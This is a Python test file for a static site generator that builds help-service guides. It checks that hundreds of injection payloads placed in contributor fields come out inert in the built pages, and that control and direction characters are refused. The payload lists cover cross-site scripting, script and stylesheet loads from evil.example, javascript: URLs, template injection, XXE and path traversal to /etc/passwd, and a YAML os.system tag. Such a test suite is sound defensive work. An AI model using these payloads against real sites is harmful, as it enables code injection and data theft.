"""Hostile words in every field that a contributor can fill: inert on every page, or refused with a report."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator
from datetime import date
from pathlib import Path
from typing import Any, NamedTuple

import pytest

from generator import site as site_step
from generator.frames import CONTENT, DESCRIPTION, SEGMENT, STEM, TITLE, part_marker
from generator.load import remembered
from generator.pages.views import ROOT as WAY_UP
from generator.shards.backends import Backend
from tests.built import Document
from tests.small import GOOD, problems_of, small_guide

TODAY = date(2026, 11, 22)
LANGUAGES = ("pl", "he", "en")
RUN = "window.attacked=1"
"""What a script of ours would do; a test in a browser looks whether anything did."""

TEXT = (  # between tags
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script/x>{RUN}</script>",
    f"<script\n>{RUN}</script\n>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module src=https://evil.example/x.mjs></script>",
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="{RUN}">',
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x\tonerror\t=\t{RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg/>#x"/></svg>',
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={RUN}></style></mglyph></math>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "<iframe src=javascript:parent.attacked=1></iframe>",
    "<object data=javascript:attacked=1></object>",
    "<embed src=javascript:attacked=1>",
    "<base href=https://evil.example/>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<meta http-equiv=Content-Security-Policy content="script-src *">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=preload as=script href=//evil.example/x.js>",
    "<form action=https://evil.example/><button>OK</button></form>",
    "<a href=javascript:attacked=1>x</a>",
    "<a href='java\tscript:attacked=1'>x</a>",
    "<template><script>attacked=1</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    f"<isindex type=image src=1 onerror={RUN}>",
    f"<x onclick={RUN} tabindex=1>x</x>",
    "<bdo dir=rtl>",
    "<plaintext>",
    "<xmp>",
    "<textarea>",
    "<select><option>",
    "<table><tr><td>",
    "<b",
    "<",
    "<<<>>>",
    "</",
    "&",
    "&lt;script&gt;attacked=1&lt;/script&gt;",
    "&#60;img src=x onerror=attacked=1&#62;",
    "&#x3c;img src=x onerror=attacked=1&#x3e;",
    "&amp;lt;b&amp;gt;",
    "&#0;&#x110000;&#xD800;&ltb&gtb",
    "&nbsp;&shy;&zwj;&NotEqualTilde;",
)
CLOSERS = (  # what would end the element, comment or section around it
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</main></body></html><script>{RUN}</script>",
    f"</h1></a></li></ul></section><img src=x onerror={RUN}>",
    f"</bdi></span></p></div><svg/onload={RUN}>",
    "<!--",
    "-->",
    "<!-->",
    f"--><script>{RUN}</script>",
    f"--!><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"]]><script>{RUN}</script>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    f"<?xml version='1.0'?><?php echo 1 ?><script>{RUN}</script>",
    "<!--[if IE]><script>attacked=1</script><![endif]-->",
    '<!--#include virtual="/etc/passwd"-->',
)
ATTRIBUTE = (  # in an attribute
    f'" onmouseover="{RUN}',
    f"' onmouseover='{RUN}",
    f'" autofocus onfocus="{RUN}" x="',
    f'"><script>{RUN}</script>',
    f"'><img src=x onerror={RUN}>",
    f"` onmouseover=`{RUN}",
    f" onmouseover={RUN} ",
    f'" style="background:url(javascript:{RUN})',
    f'x" accesskey="x" onclick="{RUN}"',
    f"&quot; onmouseover=&quot;{RUN}",
    f"&#34; onmouseover=&#34;{RUN}",
    '\\" onmouseover=\\"attacked=1',
    '" data-leave="" href="javascript:attacked=1',
    '" id="g-search" name="currentScript',
    'data-week="0-1440" data-leave data-search',
    '<i data-week="0-1440">',
    'href="#i-phone" <use href="#i-../../x"/>',
)
URL = (  # where an address stands
    "javascript:attacked=1",
    "JaVaScRiPt:attacked=1",
    " javascript:attacked=1",
    "java\tscript:attacked=1",
    "javascript&colon;attacked=1",
    "&#106;avascript:attacked=1",
    "javascript://proba.org/%0aattacked=1",
    "data:text/html,<script>parent.attacked=1</script>",
    "data:text/html;base64,PHNjcmlwdD5hdHRhY2tlZD0xPC9zY3JpcHQ+",
    "vbscript:attacked",
    "file:///etc/passwd",
    "//evil.example/x",
    "/\\evil.example/x",
    "https://proba.org@evil.example/",
    'https://evil.example/" onmouseover="attacked=1',
    "https://evil.example/?a=1&b=<script>attacked=1</script>",
    "../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "?subject=x&bcc=evil@evil.example&body=%0D%0A",
    "#g-main",
    "%00%0a%0d%22%3cscript%3e",
    "%s %(place)s %(name)d {0} {time} {n} {place.__class__} %",
)
SCRIPT = (  # in a script, JSON or a style
    "';attacked=1;//",
    '";attacked=1;//',
    "`;attacked=1;//${attacked=1}",
    "\\';attacked=1;//",
    "\\",
    "\\u003cscript\\u003eattacked=1\\u003c/script\\u003e",
    '"}]}</script><script>attacked=1</script>',
    '{"__proto__": {"attacked": 1}}',
    "__proto__",
    "constructor",
    "toString hasOwnProperty __defineGetter__",
    "*/attacked=1;/*",
    "[].constructor.constructor('attacked=1')()",
    "body{background:url(//evil.example/x)}",
    "@import url(//evil.example/x.css);",
    "expression(attacked=1)",
    "| || |0|1|,;=~^*",
    "$& $1 $` $' $$ \\1 \\g<0>",
)
TEMPLATE = (  # in a template
    "{{7*7}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in range(9) %}x{% endfor %}",
    "{% include '/etc/passwd' %}",
    "{# comment #}",
    "{%- raw -%}{{ x }}{%- endraw -%}",
    "{{ config.site_url }}{{ guide.repository }}",
    "${7*7} #{7*7} <%= 7*7 %> [[7*7]] @(7*7)",
    "!ENV HOME !!python/object/apply:os.system [id]",
)
MARKDOWN = (
    "[x](javascript:attacked=1)",
    "[x](<javascript:attacked=1>)",
    "[x](java&#115;cript:attacked=1 'title')",
    "[x](JAVASCRIPT&colon;attacked=1)",
    "![x](javascript:attacked=1)",
    "![x](https://evil.example/x.png)",
    "[x](data:text/html,x)",
    "[x](//evil.example/)",
    "[x][r]\n[r]: javascript:attacked=1",
    '[r]\n[r]: <javascript:attacked=1> "t"',
    "<javascript:attacked=1>",
    '<https://evil.example/"onmouseover="attacked=1>',
    "<evil@evil.example>",
    "text{: onclick=attacked=1}",
    '# head {: onclick="attacked=1" id=g-search }',
    "{: onclick=attacked=1 }",
    '*x*{: style="color:red" .g-skip}',
    '[x](https://proba.org "\\" onmouseover=\\"attacked=1")',
    "**b** _i_ `code` ~~s~~ ==m== ^^u^^",
    "``` {onclick=attacked=1}",
    "*[HTML]: <script>attacked=1</script>",
    "[^1]: <script>attacked=1</script>",
    ":material-account: :joy: $$x$$ \\(x\\)",
    '--8<-- "/etc/passwd"',
    "::: generator",
    '!!! danger "<script>attacked=1</script>"',
    "Title: x",
    "---",
    "| a | b |\n|---|---|\n| <script>attacked=1</script> | x |",
)
OURS = (  # marks of our own
    "[[list]]",
    "[[publisher]] [[sources]] [[counts]]",
    "[[help:night-shelter]]",
    "[[javascript:attacked=1]]",
    "[[urgent|<script>attacked=1</script>]]",
    "[[pl:<img src=x onerror=attacked=1>]]",
    "[[../../etc/passwd]]",
    "[[",
    "]]",
)
TYPST = (
    '#eval("1") #import "x" #read("/etc/passwd") #sys.inputs',
    "$ x^2 $ = head @label <label> // comment /* x */",
    '"); #panic("x"); //',
)
LOOKALIKES = (
    "＜script＞attacked=1＜/script＞",
    "‹script›attacked=1‹/script›",
    "﹤img src=x onerror=attacked=1﹥",
    "〈script〉attacked=1〈/script〉",
    "<ſcript>attacked=1</ſcript>",
    "<İmg src=x onerror=attacked=1>",
    "<ѕcrірt>attacked=1</ѕcrірt>",
    "ⓙⓐⓥⓐⓢⓒⓡⓘⓟⓣ:attacked=1",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞",
    "\u200fא<script>\u200eattacked=1</script>\u200f",  # marks that serve no letter are refused
)
LONG = ("<b>" * 1400, "x" * 3990, '"' * 3990, "&" * 3990, "[" * 3990, "{{" * 1900, "א<" * 1900)
ATTACKS = (
    *TEXT, *CLOSERS, *ATTRIBUTE, *URL, *SCRIPT, *TEMPLATE, *MARKDOWN, *OURS, *TYPST, *LOOKALIKES, *LONG
)  # fmt: skip

REFUSED = (
    "\x00",
    "<scr\x00ipt>",
    "\x01",
    WAY_UP,
    "\x03",
    "\x08",
    "\x0b",
    "\x0c",
    "\x1b[31m",
    "\x7f",
    "\x85key: x",
    "\x9b",
    "\u00ad",
    "\u061c",
    "\u200b",
    "\u2028key: x",
    "\u2029",
    "\u202a",
    "\u202b",
    "\u202c",
    "\u202dgnp.exe",
    "\u202egnp.exe",
    "\u2060",
    "\u2066",
    "\u2067",
    "\u2068",
    "\u2069",
    "\ufeff",
    "\ufff9",
    "\U000e0041",
    "\ue000",
    "\U0010ffff",
    "\ufdd0",
    TITLE,
    DESCRIPTION,
    CONTENT,
    part_marker("list"),
    SEGMENT + "0",
    STEM.upper(),
    STEM.replace("s", "ſ"),
)
"""What may not stand anywhere: control, direction, private use, unassigned, and the marks of our own frames."""


def test_there_are_enough() -> None:
    """A hundred and more, and none twice."""
    assert len(ATTACKS) + len(REFUSED) >= 200
    assert len(set(ATTACKS)) == len(ATTACKS)


# A guide whose every text is hostile


def tame(number: int) -> str:
    """What stands in the place of the attack in a guide of the same shape."""
    return f"word{number:04d}"


class Words:
    """Fills fields: a fixed beginning, so that every list keeps its order, and the attack behind it, cut to fit."""

    def __init__(self, attacks: list[str], first: bool = True) -> None:
        self.attacks, self.first = attacks, first

    def line(self, number: int, limit: int, beginning: str = "") -> str:
        """A text in one language."""
        attack = self.attacks[number % len(self.attacks)]
        if limit < 60:
            beginning = beginning[:2]
        text = f"{beginning}{number:04d} {attack}" if self.first else f"{attack} {number:04d}"
        return text[:limit].strip()

    def text(self, number: int, limit: int = 4000) -> dict[str, str]:
        """A text in every language."""
        return {
            "pl": self.line(number, limit, "Żółw "),
            "he": self.line(number, limit, "צב "),
            "en": self.line(number, limit, "Turtle "),
        }

    def phrases(self, number: int) -> dict[str, list[str]]:
        """Words to search by."""
        return {language: [self.line(number, 100)] for language in LANGUAGES}


def _contact(words: Words, number: int) -> dict[str, Any]:
    """The fields that organisations and services share."""
    return {
        "notice": words.text(number, 600),
        "phones": [{"number": "85 744 50 27", "label": words.text(number, 120)}],
        "email": "biuro@proba.org",
        "website": "https://proba.org/dom?a=1&b=2",
        "address": {
            "street": re.sub(r"://|www\.", ":", words.line(number, 300)),  # a link is refused there
            "city": words.line(number, 120),
            "directions": words.text(number, 400),
        },
        "area": f"area-{number:04d}",
        "alerts": [{"text": words.text(number, 600)}],
    }


def _organisation(words: Words, number: int) -> dict[str, Any]:
    service = {
        "id": "service",
        "name": words.text(number, 300),
        "description": words.text(number),
        "help_types": [f"help-{number:04d}", "night-shelter"],
        "target_groups": [f"people-{number:04d}"],
        **_contact(words, number),
        "hours": "pn-pt 8-16",
        "hours_note": words.text(number, 400),
        "cost": "free",
        "cost_note": words.text(number, 300),
        "referral": "required",
        "referral_note": words.text(number, 300),
        "notes": words.text(number, 2000),
        "source": words.line(number, 490),
    }
    other = {"id": "other", "name": words.text(number, 300), "help_types": ["violence"], "hours": "unknown"}
    return {
        "id": f"dom-{number:04d}",
        "aliases": [f"old-{number:04d}"],
        "name": words.text(number, 300),
        "description": words.text(number),
        "status": "paused" if number % 7 == 6 else "active",
        **_contact(words, number),
        "services": [service, other],
        "source": words.line(number, 490),
    }


class Article(NamedTuple):
    """An article in one language."""

    name: str
    title: str
    description: str
    body: str


def hostile_guide(
    folder: Path, attacks: list[str], articles: Callable[[str], Iterator[Article]] = lambda _: iter(()), **options: Any
) -> Path:
    """A guide with one record of every kind for each attack, and the first attack in the guide's own texts."""
    words = Words(attacks, **options)
    numbers = range(len(attacks))
    data = folder / "data"
    data.mkdir(parents=True)
    name = words.text(0, 120)
    own = {
        "name": name,
        "region": name,
        "country": "PL",
        "time_zone": "Europe/Warsaw",
        "languages": list(LANGUAGES),
        "edition": words.line(0, 20),
        "edition_date": "2026-11-22",
        "publisher": {
            "name": words.text(0, 200),
            "email": "biuro@proba.org",
            "website": "https://proba.org/",
            "address": words.line(0, 300),
        },
        "contact": {"email": "kontakt@proba.org"},
        "repository": "https://proba.org/guide",
        "emergency": "112",
        "urgent": [
            {"situation": words.text(number, 80), "service": f"dom-{number:04d}/service", "icon": "lifebuoy"}
            for number in numbers
            if number % 7 != 6
        ][:20],
        "data_licence": words.line(0, 60),
        "editions": [{"id": "one", "title": words.text(0, 60)}],
    }
    groups = [
        {"id": f"group-{n:04d}", "name": words.text(n, 300), "need": words.text(n, 60), "icon": "bed-outline"}
        for n in numbers
    ]
    help_types = [
        {
            "id": f"help-{n:04d}",
            "group": f"group-{n:04d}",
            "name": words.text(n, 300),
            "description": words.text(n),
            "synonyms": words.phrases(n),
            "how_people_say_it": words.phrases(n),
        }
        | ({"sensitive": True, "slug": f"matters-{n:04d}", "neutral_name": words.text(n, 120)} if n % 3 == 0 else {})
        for n in numbers
    ]
    plain = {"pl": "Nocleg", "he": "לינה", "en": "Shelter"}
    help_types += [{"id": one, "group": "group-0000", "name": plain} for one in ("night-shelter", "violence")]
    people = [
        {
            "id": f"people-{n:04d}",
            "category": f"kind-{n:04d}",
            "name": words.text(n, 300),
            "genitive": words.text(n, 200),
            "synonyms": words.phrases(n),
            "how_people_say_it": words.phrases(n),
        }
        for n in numbers
    ]
    areas = [
        {
            "id": f"area-{n:04d}",
            "level": "town",
            "name": words.text(n, 300),
            "locative": words.text(n, 120),
            "genitive": words.text(n, 120),
        }
        for n in numbers
    ]
    files = {
        "guide": own,
        "help_types": {"groups": groups, "help_types": help_types},
        "target_groups": {
            "categories": [{"id": f"kind-{n:04d}", "name": words.text(n, 300)} for n in numbers],
            "target_groups": people,
        },
        "areas": {"areas": areas},
        "organisations": {"organisations": [_organisation(words, n) for n in numbers]},
    }
    for file, content in files.items():  # what is JSON is YAML, too
        (data / f"{file}.yaml").write_text(json.dumps(content, ensure_ascii=False), "utf-8")
    starter = Path(site_step.__file__).parents[1] / "starter" / "mkdocs.yml"
    (folder / "mkdocs.yml").write_text(starter.read_text("utf-8"), "utf-8")
    for language in LANGUAGES:
        (folder / "content" / language).mkdir(parents=True)
        for article in articles(language):
            file = folder / "content" / language / f"{article.name}.md"
            head = {"title": article.title, "description": article.description, "footer": True}
            lines = [f"{key}: {json.dumps(value, ensure_ascii=False)}" for key, value in head.items()]
            file.write_text("\n".join(["---", *lines, "---", article.body, ""]), "utf-8")
    return folder


def built(folder: Path) -> Path:
    """The site of a guide, made as `guide build` makes it."""
    guide, _ = remembered(folder, TODAY, folder / ".build")
    out = folder / "site"
    site_step.publish(folder, out, guide, shards=Backend("serial"))
    return out


def shape(page: Path) -> list[tuple]:
    """Every element of a page: what is around it, its attributes, and the values that no words of people decide.

    But for what isolates numbers, of which words may hold any, and how an address is read, which its letters decide.
    """
    found = []
    for element in Document(page.read_text("utf-8")).elements:
        names = set(element.attributes)
        if element.tag == "bdi":
            names -= {"lang", "dir"}
            if not names:
                continue
        own = {name: element[name].partition("?")[0] for name in ("href", "src", "id", "class") if element[name]}
        found.append((element.inside, element.tag, sorted(names), sorted(own.items())))
    return found


def dangers(page: Path) -> list[str]:
    """What no page may have."""
    document = Document(page.read_text("utf-8"))
    found = [f"{page.name}: a script in the page" for _script in document.foreign_scripts()]
    for element in document.elements:
        for name, value in element.attributes.items():
            address = "".join(value.split()).lower() if name in ("href", "src", "action") else ""
            elsewhere = name == "src" and address.startswith(("//", "http:", "https:"))
            run = address.startswith(("javascript:", "vbscript:", "data:"))
            if name.startswith("on") or name in ("style", "srcdoc") or run or elsewhere:
                found.append(f"{page.name}: <{element.tag} {name}={value[:80]!r}>")
    return found


def compare(folder: Path, attacks: list[str]) -> None:
    """Build a hostile guide and a tame one of the same shape; their pages have the same elements and attributes."""
    hostile = built(hostile_guide(folder / "hostile", attacks))
    harmless = built(hostile_guide(folder / "tame", [tame(number) for number in range(len(attacks))]))
    pages = sorted(path.relative_to(hostile) for path in hostile.rglob("*.html"))
    assert pages == sorted(path.relative_to(harmless) for path in harmless.rglob("*.html"))
    trouble = [word for page in pages for word in dangers(hostile / page)]
    trouble += [f"{page}: other elements" for page in pages if shape(hostile / page) != shape(harmless / page)]
    assert not trouble, "\n".join(trouble[:20])


def test_hostile_words_are_inert(tmp_path: Path, some: Callable) -> None:
    """Some attacks in every field; `test_every_attack` has all of them."""
    compare(tmp_path, some(ATTACKS, 8))


@pytest.mark.audit
@pytest.mark.parametrize("start", range(0, len(ATTACKS), 40))
def test_every_attack(tmp_path: Path, start: int) -> None:
    """Every attack in every field of a record; the first of each batch also in the guide's own texts."""
    compare(tmp_path, list(ATTACKS[start : start + 40]))


@pytest.mark.parametrize("text", REFUSED, ids=ascii)
def test_refused(tmp_path: Path, text: str) -> None:
    """What may not stand in a guide is reported, written as it is or with escapes."""
    for escaped in (True, False):
        name = json.dumps(f"Dom {text} x", ensure_ascii=escaped)
        guide = small_guide(tmp_path / str(escaped), GOOD.replace('"Dom „Żółta Ćma”"', name))
        assert any(problem.level == "error" for problem in problems_of(guide))


def with_article(guide: Path, name: str = "x") -> Path:
    """A guide with an article."""
    folder = guide / "content" / "pl"
    folder.mkdir(parents=True)
    (folder / f"{name}.md").write_text("---\ntitle: x\ndescription: x\n---\nx", "utf-8")
    return guide


@pytest.mark.parametrize("linked", ["data", "data/organisations.yaml", "content/pl"])
def test_links_are_not_followed(tmp_path: Path, linked: str) -> None:
    """Neither a file nor a folder of a guide may be a link out of it."""
    guide = with_article(small_guide(tmp_path / "guide"))
    (guide / linked).rename(tmp_path / "outside")
    (guide / linked).symlink_to(tmp_path / "outside")
    assert "symlink" in {problem.rule for problem in problems_of(guide)}


@pytest.mark.parametrize("name", ["urgent", "index", "404", "booklets", "con", "Urgent", "a b"])
def test_articles_take_no_other_page(tmp_path: Path, name: str) -> None:
    """An article may not be called like a generated page or a device."""
    guide = with_article(small_guide(tmp_path), name)
    assert "article-name" in {problem.rule for problem in problems_of(guide)}


@pytest.mark.parametrize("own", ["g-main", "g-search", "i-phone"])
def test_services_take_no_part_of_the_page(tmp_path: Path, own: str) -> None:
    """A service's id is an anchor, and not that of the page's own parts."""
    found = problems_of(small_guide(tmp_path, GOOD.replace("id: dom", f"id: {own}")))
    assert "id-reserved" in {problem.rule for problem in found}
